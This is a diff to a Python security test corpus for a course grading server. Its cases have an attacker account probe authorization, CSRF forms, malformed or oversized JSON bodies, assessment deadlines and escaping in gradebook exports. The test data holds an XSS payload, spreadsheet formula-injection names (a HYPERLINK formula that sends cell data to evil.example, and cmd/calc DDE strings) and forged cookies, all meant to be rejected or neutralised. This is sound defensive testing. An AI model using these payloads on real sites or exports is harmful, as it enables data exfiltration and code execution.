@@ -9,8 +9,18 @@ honest learner whose data mallory wants; ``prof``, an instructor), ``None`` for 
 Authorization header, or ``"header:<value>"`` for a literal Authorization header. ``page``
 sends it as a browser instead: the session cookie of that user (``anon``: none) and a CSRF
 value, ``csrf`` = own (this browser's, valid), none, wrong, planted (a valid pair of another
-browser, with this session). Placeholders in paths and bodies: ``{alice_sub}``, ``{alice_job}``,
-``{alice_answer}`` (made by the harness before the corpus runs).
+browser, with this session; ``prof`` is an instructor's browser). Placeholders in paths and bodies:
+``{alice_sub}``, ``{alice_job}``, ``{alice_answer}`` (reviewed by prof, with ALICE_REVIEW),
+``{alice_request}`` (alice's open regrade request, ALICE_SECRET), ``{mallory_answer}`` (with an
+open regrade request whose message is XSS), ``{mallory_flood}``, ``{mallory_burst}``,
+``{mallory_spare}`` (graded answers of mallory's without a request), made by the harness before
+the corpus runs.
+
+The live server runs with :data:`COURSE` (issue #29's assessments): one open, one closed (its due
+date in 2000), one not open yet (2999), a timed quiz nobody starts and one whose scores wait for
+a release. Far dates, not a clock: the server is a process of its own and reads the system's
+clock. :data:`NAMES`: learners whose names are formulas and markup (the exports and pages must
+neutralise and escape them).
 
 ``pending``: the item of #26 whose branch makes the case pass; the test marks those
 ``xfail(strict=True)`` (on the backends of ``pending_on``) until the lead merges that branch and
@@ -29,6 +39,45 @@ NO_BODY: Any = object()
 
 HONEST = {"17-08/practice-1": 64}       # alice's answer after each family: right, 1 point (64 = 8 * 8)
 HONEST_SCORE = 1
+
+COURSE = """course:
+  timezone: UTC
+assessments:
+  - id: open-hw
+    title: Open homework
+    problems: [17-08/practice-*]
+    opens: 2000-01-01 00:00
+    due: 2999-12-31 23:59
+    show: immediately
+  - id: closed-hw
+    title: Closed homework
+    problems: [17-08/example-1.*]
+    opens: 2000-01-01 00:00
+    due: 2000-01-08 00:00
+  - id: future-hw
+    title: Future homework
+    problems: [17-08/example-2.*, 17-08/code-mha]
+    opens: 2999-01-01 00:00
+    due: 2999-01-08 00:00
+  - id: timed-quiz
+    title: Timed quiz
+    problems: [17-08/quiz-2, 17-08/quiz-3]
+    opens: 2000-01-01 00:00
+    due: 2999-12-31 23:59
+    time_limit: 30 min
+  - id: hidden-hw
+    title: Hidden homework
+    problems: [17-08/example-3.*]
+    opens: 2000-01-01 00:00
+    due: 2999-12-31 23:59
+    show: on_release
+"""
+ALICE_SECRET = "alice-secret-7f3q"      # alice's regrade request's message
+ALICE_REVIEW = "alice-review-9k2w"      # prof's comment on alice's answer
+XSS = '<script>alert("xss")</script><img src=x onerror=alert(1)>'
+NAMES = {"eve": '=HYPERLINK("http://evil.example/?"&A1,"click")', "oscar": "@SUM(1+1)*cmd|' /C calc'!A0",
+         "trudy": "\t=1+1", "victor": "+1+1", "walter": "-1+cmd|' /C calc'!A0", "peggy": XSS}
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")      # what a spreadsheet may run (gradebook.csv_safe)
 
 
 @dataclass(frozen=True)
@@ -113,6 +162,35 @@ CASES: list[Case] = [
     Case("staff-csv", "others", "GET", "/staff/gradebook.csv", S(403), who=None, page="mallory"),
     Case("learner-job-page-of-alice", "others", "GET", "/learn/jobs/{alice_job}", S(403, 404), who=None,
          page="mallory"),
+    # issue #29's routes: reviews, regrade requests, assessments, statistics, staff pages, view-as
+    Case("regrade-request-on-alice-answer", "others", "POST", "/api/v1/answers/{alice_answer}/regrade-request",
+         S(403, 404), json={"message": "regrade mine"}, after=("no_alice", "alice_untouched")),
+    Case("answer-alice-request", "others", "POST", "/api/v1/regrade-requests/{alice_request}", S(403),
+         json={"response": "no", "score": 0}, after=("no_alice", "alice_untouched")),
+    Case("my-reviews", "others", "GET", "/api/v1/me/reviews", S(200), after=("no_alice",)),
+    Case("my-reviews-of-alice-problem", "others", "GET", "/api/v1/me/reviews?problem=17-08/practice-1", S(200),
+         after=("no_alice",)),
+    Case("my-reviews-learner-param", "others", "GET", "/api/v1/me/reviews?learner=alice&user_id=1", S(200, 422),
+         after=("no_alice",)),
+    Case("assessments-list", "others", "GET", "/api/v1/assessments", S(200), after=("no_alice",)),
+    Case("assessment-detail", "others", "GET", "/api/v1/assessments/open-hw", S(200), after=("no_alice",)),
+    Case("statistics", "others", "GET", "/api/v1/statistics", S(403)),
+    Case("statistics-of-assessment", "others", "GET", "/api/v1/statistics?assessment=open-hw", S(403)),
+    Case("assessment-gradebook", "others", "GET", "/api/v1/assessments/open-hw/gradebook", S(403)),
+    Case("assessment-gradebook-csv", "others", "GET", "/api/v1/assessments/open-hw/gradebook?format=csv", S(403)),
+    Case("extensions-list", "others", "GET", "/api/v1/assessments/closed-hw/extensions", S(403)),
+    Case("audit-log", "others", "GET", "/api/v1/audit", S(403)),
+    *(Case(f"staff-page-{i}", "others", "GET", path, S(403), who=None, page="mallory", after=("no_alice",))
+      for i, path in enumerate(["/staff/review", "/staff/review?all=1", "/staff/extensions", "/staff/regrade",
+                                "/staff/statistics", "/staff/statistics?assessment=open-hw",
+                                "/staff/assessments/open-hw", "/staff/assessments/open-hw/gradebook.csv",
+                                "/staff/learners/alice/view", "/staff/learners/alice/view/assessments/open-hw",
+                                "/staff/learners/alice/view/exercise/17-08/practice-1", "/staff/audit"])),
+    Case("staff-review-with-bearer", "others", "GET", "/staff/review", S(303, 401, 403)),
+    Case("view-as-post-as-learner", "others", "POST", "/staff/learners/alice/view/exercise/17-08/practice-1", S(403),
+         who=None, page="mallory", csrf="own", form=(("answer", "64"),), after=("alice_untouched",)),
+    Case("regrade-form-on-alice-answer", "others", "POST", "/learn/regrade/{alice_answer}", S(403, 404), who=None,
+         page="mallory", csrf="own", form=(("message", "mine now"),), after=("no_alice", "alice_untouched")),
     # ------------------------------------------------------------ CSRF (mallory's own session, forged forms)
     Case("form-without-csrf", "csrf", "POST", "/learn/exercise/17-08/practice-1", S(403), who=None,
          page="mallory", csrf="none", form=(("answer", "64"),), after=("nothing_stored",)),
@@ -127,6 +205,37 @@ CASES: list[Case] = [
          form=(("problem", "17-08/practice-1"), ("answer", "64"))),
     Case("planted-csrf-pair", "csrf", "POST", "/learn/exercise/17-08/practice-1", S(403), who=None,
          page="mallory", csrf="planted", form=(("answer", "64"),), after=("nothing_stored",)),
+    # issue #29's forms: a learner's own (regrade request, quiz start) forged; the staff's, by a learner
+    *(Case(f"regrade-form-{csrf}-csrf", "csrf", "POST", "/learn/regrade/{mallory_spare}", S(403), who=None,
+           page="mallory", csrf=csrf, form=(("message", "forged"),), after=("no_request",))
+      for csrf in ("none", "wrong", "planted")),
+    *(Case(f"quiz-start-form-{csrf}-csrf", "csrf", "POST", "/learn/assessments/timed-quiz/start", S(403), who=None,
+           page="mallory", csrf=csrf, form=(), after=("not_started",)) for csrf in ("none", "wrong", "planted")),
+    Case("staff-review-form-as-learner", "csrf", "POST", "/staff/review/{alice_answer}", S(403), who=None,
+         page="mallory", csrf="own", form=(("score", "0"), ("comment", "mine")), after=("alice_untouched",)),
+    Case("staff-review-form-own-answer", "csrf", "POST", "/staff/review/{mallory_spare}", S(403), who=None,
+         page="mallory", csrf="own", form=(("score", "1"),)),
+    Case("staff-request-form-as-learner", "csrf", "POST", "/staff/regrade-requests/{alice_request}", S(403),
+         who=None, page="mallory", csrf="own", form=(("response", "no"), ("score", "0")),
+         after=("alice_untouched",)),
+    Case("staff-extension-form-as-learner", "csrf", "POST", "/staff/extensions", S(403), who=None, page="mallory",
+         csrf="own", form=(("learner", "mallory"), ("assessment", "closed-hw"), ("due", "2999-01-01T00:00")),
+         after=("still_closed",)),
+    Case("staff-revoke-form-as-learner", "csrf", "POST", "/staff/extensions/revoke", S(403), who=None,
+         page="mallory", csrf="own", form=(("learner", "alice"), ("assessment", "closed-hw"))),
+    Case("staff-release-form-as-learner", "csrf", "POST", "/staff/assessments/hidden-hw/release", S(403),
+         who=None, page="mallory", csrf="own", form=(), after=("not_released",)),
+    Case("staff-extension-form-without-csrf", "csrf", "POST", "/staff/extensions", S(403), who=None, page="prof",
+         csrf="none", form=(("learner", "mallory"), ("assessment", "closed-hw"), ("due", "2999-01-01T00:00")),
+         after=("still_closed",)),
+    Case("staff-revoke-form-without-csrf", "csrf", "POST", "/staff/extensions/revoke", S(403), who=None,
+         page="prof", csrf="none", form=(("learner", "alice"), ("assessment", "closed-hw"))),
+    Case("staff-release-form-wrong-csrf", "csrf", "POST", "/staff/assessments/hidden-hw/release", S(403),
+         who=None, page="prof", csrf="wrong", form=(), after=("not_released",)),
+    Case("staff-review-form-planted-csrf", "csrf", "POST", "/staff/review/{alice_answer}", S(403), who=None,
+         page="prof", csrf="planted", form=(("score", "0"),), after=("alice_untouched",)),
+    Case("staff-request-form-without-csrf", "csrf", "POST", "/staff/regrade-requests/{alice_request}", S(403),
+         who=None, page="prof", csrf="none", form=(("response", "no"),), after=("alice_untouched",)),
     # ------------------------------------------------------------ sessions
     Case("forged-cookie", "sessions", "GET", "/learn", S(303, 401), who=None,
          headers=(("Cookie", "grader_session=" + "0" * 64 + ".9999999999." + "0" * 64),)),
@@ -198,6 +307,55 @@ CASES: list[Case] = [
          headers=(("Idempotency-Key", "a\x7fb"),), json={"answers": HONEST}, after=("nothing_stored",)),
     Case("idempotency-key-long", "bodies", "POST", SUBMIT, S(400, 422),
          headers=(("Idempotency-Key", "k" * 201),), json={"answers": HONEST}, after=("nothing_stored",)),
+    # issue #29's JSON routes
+    *(Case(f"regrade-request-{name}", "bodies", "POST", "/api/v1/answers/{mallory_spare}/regrade-request",
+           expect, after=("no_request",), **kw) for name, expect, kw in [
+        ("not-json", S(400, 422), {"content": b"{message: x", "headers": (("Content-Type", "application/json"),)}),
+        ("empty", S(422), {"json": {"message": ""}}),
+        ("no-message", S(422), {"json": {}}),
+        ("message-a-list", S(422), {"json": {"message": ["a"]}}),
+        ("message-5001", S(422), {"json": {"message": "m" * 5001}}),
+        ("message-nul", S(422), {"json": {"message": "a\x00b"}}),
+        ("extra-field", S(422), {"json": {"message": "x", "user_id": 1}}),
+        ("deep-300", S(400, 422), {"content": b'{"message": ' + b"[" * 300 + b"1" + b"]" * 300 + b"}",
+                                  "headers": (("Content-Type", "application/json"),)}),
+        ("deep-100000", S(400, 413, 422), {"content": b'{"message": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
+                                         "headers": (("Content-Type", "application/json"),)}),
+        ("body-2MB", S(413), {"content": b'{"message": "' + b"x" * (2 << 20) + b'"}',
+                              "headers": (("Content-Type", "application/json"),)})]),
+    *(Case(f"review-{name}", "bodies", "POST", "/api/v1/review/{alice_answer}", expect, who="prof",
+           after=("alice_untouched",), **kw) for name, expect, kw in [
+        ("score-text", S(422), {"json": {"score": "all"}}),
+        ("score-negative", S(422), {"json": {"score": -1}}),
+        ("score-over-points", S(422), {"json": {"score": 1000}}),
+        ("score-infinite", S(400, 422), {"content": b'{"score": 1e999}', "headers": (("Content-Type", "application/json"),)}),
+        ("score-nan", S(400, 422), {"content": b'{"score": NaN}', "headers": (("Content-Type", "application/json"),)}),
+        ("comment-nul", S(422), {"json": {"score": 0, "comment": "a\x00b"}}),
+        ("comment-10001", S(422), {"json": {"score": 0, "comment": "c" * 10_001}}),
+        ("rubric-21", S(422), {"json": {"rubric": ["x"] * 21}}),
+        ("rubric-unknown", S(422), {"json": {"rubric": ["<script>"]}}),
+        ("deep", S(400, 422), {"content": b'{"rubric": ' + b"[" * 300 + b"]" * 300 + b"}",
+                               "headers": (("Content-Type", "application/json"),)})]),
+    *(Case(f"request-answer-{name}", "bodies", "POST", "/api/v1/regrade-requests/{alice_request}", expect,
+           who="prof", after=("alice_untouched",), **kw) for name, expect, kw in [
+        ("no-response", S(422), {"json": {"score": 0}}),
+        ("response-nul", S(422), {"json": {"response": "a\x00b", "score": 0}}),
+        ("score-infinite", S(400, 422), {"content": b'{"response": "x", "score": 1e999}',
+                                         "headers": (("Content-Type", "application/json"),)})]),
+    *(Case(f"extension-{name}", "bodies", "POST", "/api/v1/assessments/closed-hw/extensions", expect, who="prof",
+           after=("still_closed",), **kw) for name, expect, kw in [
+        ("due-not-a-time", S(422), {"json": {"learner": "mallory", "due": "tomorrow"}}),
+        ("due-past-the-last-year", S(422), {"json": {"learner": "mallory", "due": "9999-12-31T23:59:59-23:59"}}),
+        ("due-before-the-first-year", S(422), {"json": {"learner": "mallory", "due": "0001-01-01T00:00+23:59"}}),
+        ("due-a-number", S(422), {"json": {"learner": "mallory", "due": 1e300}}),
+        ("reason-nul", S(422), {"json": {"learner": "mallory", "due": "2999-01-01T00:00Z", "reason": "a\x00"}}),
+        ("learner-nul", S(404, 422), {"json": {"learner": "mall\x00ory", "due": "2999-01-01T00:00Z"}}),
+        ("learner-unknown", S(404), {"json": {"learner": "nobody", "due": "2999-01-01T00:00Z"}}),
+        ("learner-an-instructor", S(404, 422), {"json": {"learner": "prof", "due": "2999-01-01T00:00Z"}}),
+        ("extra-field", S(422), {"json": {"learner": "mallory", "due": "2999-01-01T00:00Z", "role": "instructor"}}),
+        ("top-level-list", S(400, 422), {"json": [1]})]),
+    Case("revoke-learner-nul", "bodies", "DELETE", "/api/v1/assessments/closed-hw/extensions?learner=a%00b",
+         S(404, 422), who="prof"),
     # ------------------------------------------------------------ query ranges
     *(Case(f"submissions-{q.split('=')[0]}-{i}", "queries", "GET", f"{SUBMIT}?{q}", S(422), who="prof")
       for i, q in enumerate(["offset=99999999999999999999", f"offset={2**63}", "offset=-1", "offset=abc",
@@ -207,6 +365,28 @@ CASES: list[Case] = [
     Case("gradebook-format", "queries", "GET", "/api/v1/gradebook?format=xlsx", S(422), who="prof"),
     Case("submission-id-long", "queries", "GET", SUBMIT + "/" + "a" * 5000, S(404, 414, 422)),
     Case("largest-offset", "queries", "GET", f"{SUBMIT}?offset={2**31 - 1}", S(200), who="prof"),
+    Case("my-reviews-problem-long", "queries", "GET", "/api/v1/me/reviews?problem=" + "p" * 201, S(422)),
+    Case("my-reviews-problem-nul", "queries", "GET", "/api/v1/me/reviews?problem=a%00b", S(200, 422)),
+    Case("review-limit-huge", "queries", "GET", f"/api/v1/review?limit={2**64}", S(422), who="prof"),
+    Case("statistics-unknown-assessment", "queries", "GET", "/api/v1/statistics?assessment=nope", S(404, 422),
+         who="prof"),
+    Case("assessment-gradebook-format", "queries", "GET", "/api/v1/assessments/open-hw/gradebook?format=xlsx",
+         S(422), who="prof"),
+    Case("assessment-id-long", "queries", "GET", "/api/v1/assessments/" + "a" * 5000, S(404, 414, 422)),
+    Case("assessment-id-nul", "queries", "GET", "/api/v1/assessments/a%00b", S(404, 422)),
+    *(Case(f"request-id-{i}", "queries", "POST", f"/api/v1/regrade-requests/{n}", S(404, 422), who="prof",
+           json={"response": "x"}) for i, n in enumerate([2**31, 2**63, 99999999999999999999, -1, 0, "abc"])),
+    Case("request-id-huge-page", "queries", "POST", f"/staff/regrade-requests/{2**63}", S(404, 422), who=None,
+         page="prof", csrf="own", form=(("response", "x"),)),
+    Case("answer-id-nul", "queries", "POST", "/api/v1/answers/a%00b/regrade-request", S(404, 422),
+         json={"message": "x"}),
+    Case("submission-id-nul", "queries", "GET", SUBMIT + "/a%00b", S(404, 422)),
+    Case("staff-review-anonymous-text", "queries", "GET", "/staff/review?anonymous=yes", S(200, 400, 422), who=None,
+         page="prof"),
+    Case("staff-book-sort-unknown", "queries", "GET", "/staff/assessments/open-hw?sort=__class__&order=sideways",
+         S(200, 422), who=None, page="prof"),
+    Case("staff-statistics-sort-markup", "queries", "GET", "/staff/statistics?sort=%3Cscript%3E&order=%3Cb%3E",
+         S(200, 422), who=None, page="prof", after=("no_raw_markup",)),
     # ------------------------------------------------------------ uploads and batches
     *(Case(f"batch-learner-{i}", "uploads", "POST", "/api/v1/batches", S(202, 422), who="prof",
            files=(("file", "answers.json", _batch_file(login)),), after=("job_settles", "no_bad_login"))
@@ -249,6 +429,90 @@ CASES: list[Case] = [
          headers=(("X-Forwarded-For", "10.0.0.1"), ("X-Real-IP", "10.0.0.1"))),
     Case("many-headers", "headers", "GET", "/healthz", S(0, 200, 400, 431), who=None,
          headers=tuple((f"X-H{i}", "v") for i in range(500))),
+    # ------------------------------------------------------------ assessments' windows (COURSE)
+    Case("submit-closed", "course", "POST", SUBMIT, S(409), json={"answers": {"17-08/example-1.d_k": 64}},
+         after=("nothing_stored",)),
+    Case("submit-not-open", "course", "POST", SUBMIT, S(409), json={"answers": {"17-08/example-2.params": 64}},
+         after=("nothing_stored",)),
+    Case("submit-not-started", "course", "POST", SUBMIT, S(409), json={"answers": {"17-08/quiz-2": "a"}},
+         after=("nothing_stored", "not_started")),
+    Case("submit-open-with-closed", "course", "POST", SUBMIT, S(409),
+         json={"answers": {"17-08/practice-1": 64, "17-08/example-1.d_k": 64}}, after=("nothing_stored",)),
+    Case("submit-closed-idempotency-key", "course", "POST", SUBMIT, S(409), headers=(("Idempotency-Key", "late-1"),),
+         json={"answers": {"17-08/example-1.d_k": 64}}, repeat=3, after=("nothing_stored",)),
+    Case("page-submit-closed", "course", "POST", "/learn/exercise/17-08/example-1.d_k", S(409), who=None,
+         page="mallory", csrf="own", form=(("answer", "64"),), after=("nothing_stored",)),
+    Case("page-submit-not-open", "course", "POST", "/learn/exercise/17-08/example-2.params", S(404, 409), who=None,
+         page="mallory", csrf="own", form=(("answer", "64"),), after=("nothing_stored",)),
+    Case("page-submit-not-started", "course", "POST", "/learn/exercise/17-08/quiz-2", S(409), who=None,
+         page="mallory", csrf="own", form=(("answer", "a"),), after=("nothing_stored", "not_started")),
+    Case("code-not-open", "course", "POST", "/api/v1/code-submissions", S(409), form=(("problem", "17-08/code-mha"),),
+         files=(("file", "mha.py", b"x = 1\n"),), after=("no_new_job",)),
+    Case("page-code-not-open", "course", "POST", "/learn/code/17-08/code-mha", S(409), who=None, page="mallory",
+         csrf="own", files=(("file", "mha.py", b"x = 1\n"),), form=(), after=("no_new_job",)),
+    Case("exercise-not-open", "course", "GET", "/api/v1/exercises/17-08/example-2.params", S(409)),
+    Case("exercise-not-started", "course", "GET", "/api/v1/exercises/17-08/quiz-2", S(409),
+         after=("no_hidden_prompt",)),
+    Case("exercises-list-hides-not-open", "course", "GET", "/api/v1/exercises", S(200), after=("no_hidden_prompt",)),
+    Case("assessment-not-open-detail", "course", "GET", "/api/v1/assessments/future-hw", S(200),
+         after=("no_hidden_prompt",)),
+    Case("assessment-not-open-page", "course", "GET", "/learn/assessments/future-hw", S(200), who=None,
+         page="mallory", after=("no_hidden_prompt",)),
+    Case("exercise-page-not-open", "course", "GET", "/learn/exercise/17-08/example-2.params", S(404, 409), who=None,
+         page="mallory"),
+    Case("template-not-open", "course", "GET", "/learn/template/17-08/code-mha", S(404, 409), who=None,
+         page="mallory", after=("no_template",)),
+    Case("start-closed", "course", "POST", "/api/v1/assessments/closed-hw/start", S(409)),
+    Case("start-not-open", "course", "POST", "/api/v1/assessments/future-hw/start", S(409)),
+    Case("start-unknown", "course", "POST", "/api/v1/assessments/nope/start", S(404)),
+    Case("extension-as-learner", "course", "POST", "/api/v1/assessments/closed-hw/extensions", S(403),
+         json={"learner": "mallory", "due": "2999-01-01T00:00Z"}, after=("still_closed",)),
+    Case("revoke-as-learner", "course", "DELETE", "/api/v1/assessments/closed-hw/extensions?learner=alice", S(403)),
+    Case("release-as-learner", "course", "POST", "/api/v1/assessments/hidden-hw/release", S(403),
+         after=("not_released",)),
+    Case("view-as-post-as-prof", "course", "POST", "/staff/learners/alice/view/exercise/17-08/practice-1", S(403),
+         who=None, page="prof", csrf="own", form=(("answer", "63"),), after=("alice_untouched",)),
+    Case("view-as-start-as-prof", "course", "POST", "/staff/learners/alice/view/assessments/timed-quiz/start",
+         S(403), who=None, page="prof", csrf="own", form=()),
+    Case("view-as-an-instructor", "course", "GET", "/staff/learners/prof/view", S(404), who=None, page="prof"),
+    Case("view-as-unknown", "course", "GET", "/staff/learners/nobody/view", S(404), who=None, page="prof"),
+    # ------------------------------------------------------------ reviews and regrade requests
+    Case("review-unknown-answer", "reviews", "POST", "/api/v1/review/nope", S(404), who="prof", json={"score": 0}),
+    Case("review-answer-id-long", "reviews", "POST", "/api/v1/review/" + "a" * 5000, S(404, 414, 422), who="prof",
+         json={"score": 0}),
+    Case("review-form-unknown-answer", "reviews", "POST", "/staff/review/nope", S(404), who=None, page="prof",
+         csrf="own", form=(("score", "0"),)),
+    Case("regrade-request-unknown-answer", "reviews", "POST", "/api/v1/answers/nope/regrade-request", S(404),
+         json={"message": "x"}),
+    Case("regrade-form-unknown-answer", "reviews", "POST", "/learn/regrade/nope", S(404), who=None, page="mallory",
+         csrf="own", form=(("message", "x"),)),
+    Case("answer-unknown-request", "reviews", "POST", "/api/v1/regrade-requests/2147483647", S(404), who="prof",
+         json={"response": "x"}),
+    Case("regrade-request-flood", "reviews", "POST", "/api/v1/answers/{mallory_flood}/regrade-request", S(409),
+         json={"message": "look again"}, repeat=30, after=("one_open_request",)),
+    Case("regrade-request-burst", "reviews", "POST", "/api/v1/answers/{mallory_burst}/regrade-request", S(0),
+         action="regrade_burst"),
+    Case("regrade-request-twice-open", "reviews", "POST", "/api/v1/answers/{mallory_answer}/regrade-request", S(409),
+         json={"message": "again"}),
+    Case("regrade-request-html-on-queue", "reviews", "GET", "/staff/review", S(200), who=None, page="prof",
+         after=("escaped",)),
+    # ------------------------------------------------------------ exports and pages (NAMES)
+    Case("anonymous-queue-page", "exports", "GET", "/staff/review?anonymous=1", S(200), who=None, page="prof",
+         after=("no_logins", "escaped")),
+    Case("anonymous-queue-api", "exports", "GET", "/api/v1/review?anonymous=true", S(200), who="prof",
+         after=("no_logins",)),
+    Case("regrade-message-in-api", "exports", "GET", "/api/v1/review", S(200), who="prof",
+         after=("json_message_kept",)),
+    *(Case(f"csv-{i}", "exports", "GET", path, S(200), who="prof", after=("csv_neutral",))
+      for i, path in enumerate(["/api/v1/gradebook?format=csv", "/api/v1/assessments/open-hw/gradebook?format=csv",
+                                "/api/v1/assessments/open-hw/gradebook?format=csv&problems=true",
+                                "/api/v1/assessments/hidden-hw/gradebook?format=csv"])),
+    *(Case(f"csv-page-{i}", "exports", "GET", path, S(200), who=None, page="prof", after=("csv_neutral",))
+      for i, path in enumerate(["/staff/gradebook.csv", "/staff/assessments/open-hw/gradebook.csv",
+                                "/staff/assessments/closed-hw/gradebook.csv?problems=true"])),
+    *(Case(f"html-page-{i}", "exports", "GET", path, S(200), who=None, page="prof", after=("escaped_name",))
+      for i, path in enumerate(["/staff", "/staff/assessments/open-hw", "/staff/learners/peggy",
+                                "/staff/learners/peggy/view"])),
 ]
 
 # wrong tokens come from an address of their own: once failed attempts are throttled per address,
@@ -346,13 +610,22 @@ def all_cases() -> list[Case]:
     return list(CASES)
 
 
+BENCH_CONTEXT = {"alice_sub", "alice_answer", "alice_job"}    # the placeholders bench_serve.py fills
+
+
 def attack_cases() -> list[Case]:
     """The cases benchmarks/bench_serve.py's attackers loop over: all but the browser ones (they
     need signed-in sessions), the slow-client actions, the repeated ones and the uploads over
-    1 MB (those measure the network, not the server)."""
+    1 MB (those measure the network, not the server); nor those that need what only this
+    corpus's harness makes (its course: ``course``; the learners of NAMES and the instructor's
+    exports: ``exports``; a placeholder the bench does not fill: ``{alice_request}``, ...)."""
+    import re
     return [c for c in CASES if c.action is None and c.repeat == 1 and c.page is None
+            and c.family not in ("course", "exports")
+            and set(re.findall(r"\{(\w+)\}", c.path)) <= BENCH_CONTEXT
             and not (c.files and any(len(x[2]) > 1 << 20 for x in c.files))
             and not (c.content and len(c.content) > 1 << 20)]
 
 
-__all__ = ["Case", "CASES", "FAMILIES", "HONEST", "HONEST_SCORE", "replay", "raw_status", "attack_cases"]
+__all__ = ["Case", "CASES", "FAMILIES", "HONEST", "HONEST_SCORE", "COURSE", "NAMES", "XSS", "ALICE_SECRET",
+           "ALICE_REVIEW", "FORMULA_START", "replay", "raw_status", "attack_cases"]
